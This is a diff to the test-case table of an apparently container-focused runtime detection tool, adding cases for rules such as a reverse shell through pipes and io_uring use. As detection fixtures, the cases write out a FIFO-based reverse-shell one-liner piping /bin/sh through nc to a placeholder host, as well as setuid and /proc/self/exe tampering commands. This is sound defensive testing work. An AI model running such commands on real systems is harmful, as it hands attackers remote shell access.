@@ -75,16 +75,21 @@ class Case:
     xfail: str = ""  # why the positive is a known miss (strict: it must keep failing)
 
 
+def asked(ev: ExecEvent) -> str:
+    """The path an exec asked for (its exe is the file the kernel ran: /bin/busybox)."""
+    return ev.filename or ev.exe
+
+
 def exec_of(exe: str) -> Witness:
-    return lambda ev: isinstance(ev, ExecEvent) and ev.exe == exe
+    return lambda ev: isinstance(ev, ExecEvent) and asked(ev) == exe
 
 
 def exec_in(exe: str, cwd: str) -> Witness:
-    return lambda ev: isinstance(ev, ExecEvent) and ev.exe == exe and ev.cwd == cwd
+    return lambda ev: isinstance(ev, ExecEvent) and asked(ev) == exe and ev.cwd == cwd
 
 
 def second_shell(ev: Event) -> bool:
-    return (isinstance(ev, ExecEvent) and ev.exe == "/bin/sh"
+    return (isinstance(ev, ExecEvent) and asked(ev) == "/bin/sh"
             and ev.argv == ("/bin/sh", "-c", "true"))  # fmt: skip
 
 
@@ -189,14 +194,23 @@ CASES: list[Case] = [
          Scenario(("cauditd_probe", "connect", NOWHERE, "80")),
          Connected(NOWHERE, 80, ("cauditd_probe", "connect", NOWHERE, "80"))),
     Case("Redirect stdio to network connection",
-         Scenario(("cauditd_probe", "dupsock")), "evt.arg.newfd", "2",
+         Scenario(("cauditd_probe", "dupsock")), "fd.num", "2",
          Scenario(("cauditd_attack", "dupfile")),
          DupOfFile(1, ("cauditd_attack", "dupfile")), "file-on-stdout"),
     Case("Redirect stdio to network connection",
-         Scenario(("cauditd_probe", "dupsock")), "evt.arg.newfd", "2",
+         Scenario(("cauditd_probe", "dupsock")), "fd.num", "2",
          Scenario(("cauditd_attack", "dupsock-high")),
          syscall("socket", domain=2, type=1), "socket-on-fd10"),  # dup2 onto fd>2: not emitted
+    Case("Reverse shell through pipes",
+         sh(f"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | /usr/bin/nc -w 1 {NOWHERE} 4445"
+            " > /tmp/f"), "container.image", TEST_IMAGE,
+         sh(f"/usr/bin/nc -w 1 {NOWHERE} 4445 </dev/null | /bin/sh; echo id | /bin/sh"),
+         exec_of("/usr/bin/nc"), "fifo"),
     # privilege.toml
+    Case("io_uring set up in container",
+         Scenario(("cauditd_evade", "uring-setup")), "evt.arg.entries", "4",
+         Scenario(("cauditd_evade", "read", "/etc/hostname")), execd("cauditd_evade", "read",
+                                                                     "/etc/hostname")),
     Case("Set setuid or setgid bit",
          sh("/bin/touch /tmp/f; /bin/chmod u+s /tmp/f"), "fd.name", "/tmp/f",
          sh("/bin/touch /tmp/f; /bin/chmod 755 /tmp/f"), file_op(CHMODS, "/tmp/f")),
@@ -327,7 +341,8 @@ CASES: list[Case] = [
     Case("Process executable written through /proc",
          sh("echo x > /proc/self/exe"), "fd.name", "/proc/self/exe",
          sh("/bin/cat /proc/self/exe > /dev/null"),
-         Opened("/proc/self/exe", READ, ("/bin/cat", "/proc/self/exe"))),
+         # the kernel opened the binary /proc/self/exe names (busybox), not a file below /proc
+         Opened("/proc/self/exe", READ, ("/bin/cat", "/proc/self/exe"), "/bin/busybox")),
     Case("Container started with a sensitive host mount",
          Scenario(("true",), ("-v", "/etc:/hostetc:ro")), "proc.cmdline", "true",
          Scenario(("true",), ("-v", "/tmp:/data:ro")), execd("true")),
